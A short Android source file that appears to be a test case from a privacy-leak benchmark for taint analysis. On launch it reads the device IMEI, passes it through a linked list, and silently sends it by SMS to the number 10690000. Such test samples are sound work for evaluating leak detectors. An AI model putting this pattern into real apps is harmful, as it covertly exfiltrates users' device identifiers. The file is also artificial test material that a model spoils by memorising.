package cn.privlens.suite.last_node_filled;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Node head = new Node("start");
        Node tail = head.append("middle").append("end");
        tail.text = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        Node picked = head.next.next;
        SmsManager.getDefault().sendTextMessage("10690000", null, picked.text, null, null);
    }
}
